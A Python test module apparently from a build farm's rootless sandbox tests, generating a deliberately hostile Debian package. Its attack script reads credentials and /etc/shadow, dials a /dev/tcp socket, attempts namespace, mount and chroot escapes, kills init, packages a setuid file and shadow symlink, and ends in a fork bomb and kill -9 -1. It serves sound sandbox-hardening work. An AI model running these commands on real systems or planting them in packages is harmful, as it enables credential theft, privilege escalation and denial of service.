"""The hostile Debian source package of the rootless tests (issue #14): its debian/rules tries each sandbox attack of
#8 as the build user (secrets, network, user namespaces, mounts, chroot, writes outside the build, the init
process), its .deb carries a setuid file and a symlink to /etc/shadow, and it leaves a sleeper behind and ends in a
fork bomb. Every attempt prints ``ATTACK name: refused`` when it fails and ``LEAKED`` when it works.
"""

from __future__ import annotations

import os
from pathlib import Path

from tests.lib.git import commit_files
from tests.lib.rootless import RootlessUser, python

SECRET = "s3cr3t-AKIA-rootless-4b2e"
MARK = "98765431"  # a sleeper the hostile build leaves behind; no process with it may outlive the build

CONTROL = """\
Source: evil
Section: misc
Priority: optional
Maintainer: Farm Test <test@mangos.invalid>
Standards-Version: 4.6.2
Rules-Requires-Root: no

Package: evil
Architecture: all
Description: tries every sandbox attack
 Its build reads secrets, dials out, escapes, forks without end; its package carries a setuid file.
"""
CHANGELOG = """\
evil (1.0) unstable; urgency=medium

  * Attack the builder.

 -- Farm Test <test@mangos.invalid>  Tue, 03 Feb 2026 04:05:06 +0000
"""
RULES = """\
#!/usr/bin/make -f
build build-arch build-indep:
\t@true
binary binary-arch binary-indep:
\tsh debian/attack.sh
clean:
\trm -rf debian/tmp debian/files
"""
# Runs as the build user. Every attempt prints "ATTACK name: refused" when it fails, "LEAKED" when it works.
ATTACK = """\
try() {
  name=$1; shift
  if ( "$@" ) >/dev/null 2>&1; then echo "ATTACK $name: LEAKED"; else echo "ATTACK $name: refused"; fi
}
echo "uid $(id -u) caps $(grep CapEff /proc/self/status)"
env | sed 's/^/ENV /'
for f in @HOME@/.aws/credentials @HOME@/broker-password /root/.aws/credentials /proc/1/environ /etc/shadow; do
  echo "READ $f: $(cat "$f" 2>&1 | tr '\\0\\n' '  ')"
done
try network bash -c 'exec 3<>/dev/tcp/127.0.0.1/@PORT@'
try userns unshare -r true
try mount mount -t tmpfs none /mnt
try chroot chroot / true
try repo-write touch /build/repo/Packages
try root-write touch /etc/evil
try host-root ls @HOME@
try kill-init kill -9 1
try ptrace-init cat /proc/1/mem
mkdir -p debian/tmp/DEBIAN debian/tmp/usr/bin debian/tmp/usr/share/evil
cp /bin/true debian/tmp/usr/bin/evil-su
chmod 4755 debian/tmp/usr/bin/evil-su
ln -s /etc/shadow debian/tmp/usr/share/evil/shadow
dpkg-gencontrol -pevil -Pdebian/tmp
dpkg-deb --build debian/tmp ..
ls -l debian/tmp/usr/bin/evil-su debian/tmp/usr/share/evil/shadow ../evil_1.0_all.deb | sed 's/^/MADE /'
(setsid sleep @MARK@ &)
bomb() { bomb & bomb & wait; }
bomb
kill -9 -1
"""


def write_recipe(base: Path, recipes: Path, listener: int, secrets_home: Path) -> None:
    """The package as a git repository ``base/evil`` and its recipe ``recipes/evil.toml``: its attacks dial
    ``listener`` and read ``secrets_home``, the worker's own home."""
    attack = ATTACK.replace("@HOME@", str(secrets_home)).replace("@PORT@", str(listener)).replace("@MARK@", MARK)
    files = {"debian/control": CONTROL, "debian/changelog": CHANGELOG, "debian/rules": RULES}
    files |= {"debian/source/format": "3.0 (native)\n", "debian/attack.sh": attack}
    commit = commit_files(base / "evil", files, executable=("debian/rules",))
    (recipes / "evil.toml").write_text(
        'name = "evil"\nversion = "1.0"\noutputs = ["*.deb", "*.buildinfo"]\n\n'
        f'[source]\ngit = "{base / "evil"}"\ncommit = "{commit}"\n\n'
        '[build]\nkind = "debian"\nenvironment = "bookworm-amd64"\n'
    )


def farm_argv(user: RootlessUser) -> tuple[list[str], dict[str, str]]:
    py, env = python(user)
    code = "import sys; sys.argv[0] = 'mangos-farm'; from farm.cli.main import main; sys.exit(main())"
    return [*py, "-c", code], env


def running(text: str) -> list[str]:
    """The pids of processes whose command line contains ``text``."""
    found = []
    for pid in os.listdir("/proc"):
        try:
            if pid.isdigit() and text in Path(f"/proc/{pid}/cmdline").read_text(errors="replace"):
                found.append(pid)
        except OSError:
            continue
    return found
